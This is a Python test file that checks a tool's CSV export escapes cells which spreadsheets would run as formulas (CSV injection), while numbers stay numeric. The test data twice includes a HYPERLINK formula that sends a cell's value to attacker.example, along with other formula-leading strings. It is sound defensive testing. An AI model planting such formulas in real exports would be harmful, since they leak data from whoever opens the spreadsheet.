"""Every CSV drift writes escapes the cells a spreadsheet would evaluate as formulas (OWASP
"CSV injection"); numbers stay numbers."""

from __future__ import annotations

import csv
import io
import math

from hypothesis import given
from hypothesis import strategies as st

from drift.cli import main
from drift.report.tables import csv_cell, format_csv

FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_text_that_starts_a_formula_is_escaped():
    rows = [{"a": '=HYPERLINK("http://attacker.example/leak?d="&B2,"click")', "b": "+1",
             "c": "-2-3", "d": "@SUM(A1)", "e": "\tx", "f": "\r=1", "g": "plain"}]
    cells = next(csv.DictReader(io.StringIO(format_csv(list(rows[0]), rows), newline="")))
    assert {k: v[:2] for k, v in cells.items()} == {
        "a": "'=", "b": "'+", "c": "'-", "d": "'@", "e": "'\t", "f": "'\r", "g": "pl"}


def test_numbers_stay_numbers():
    assert csv_cell(-0.25) == "-0.2500" and csv_cell(-3) == "-3" and csv_cell(True) == "1"
    assert csv_cell(None) == "" and csv_cell([-1, 2]) == "'-1 2"  # a list is text


@given(st.one_of(st.text(), st.lists(st.text(), max_size=3)))
def test_no_text_cell_starts_a_formula(value):
    cell = csv_cell(value)
    text = value if isinstance(value, str) else " ".join(value)
    assert not cell.startswith(FORMULA)
    assert cell == text or (text.startswith(FORMULA) and cell == "'" + text)


@given(st.floats(allow_nan=False, allow_infinity=False, min_value=-1e6, max_value=1e6))
def test_a_float_cell_reads_back_as_its_number(x):
    assert math.isclose(float(csv_cell(x)), x, abs_tol=1e-4)


def test_pairs_csv_of_drift_score_escapes_article_sentences(tmp_path, capsys, encoder):
    """A sentence starting with '=' in an article must not reach a spreadsheet as a formula."""
    evil = '=HYPERLINK("http://attacker.example/leak?d="&B2,"Read more")'
    base, deriv = tmp_path / "base.txt", tmp_path / "=1+2.txt"
    base.write_text(f"The council met on Monday to discuss the budget.\n\n{evil}\n",
                    encoding="utf-8")
    deriv.write_text(f"The council met on Monday to talk about the budget.\n\n{evil}\n\n"
                     "@everyone -10 percent +5 votes.\n", encoding="utf-8")
    out = tmp_path / "rep"
    assert main(["-q", "score", str(base), str(deriv), "--out", str(out), "--no-plots",
                 "--no-strip"]) == 0
    capsys.readouterr()
    rows = list(csv.DictReader((out / "pairs.csv").open(encoding="utf-8", newline="")))
    cells = [v for r in rows for v in r.values()]
    assert any(v == "'" + evil for v in cells)  # the sentence is there, as text
    assert not [v for v in cells if v.startswith(FORMULA)
                and not _is_number(v)], cells


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_a_carriage_return_in_a_cell_keeps_the_row_whole():
    rows = [{"a": "name\rwith a return", "b": 0.5}, {"a": "plain", "b": -1.0}]
    text = format_csv(["a", "b"], rows)
    back = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["a"] for r in back] == ["name\rwith a return", "plain"]
    assert [float(r["b"]) for r in back] == [0.5, -1.0]
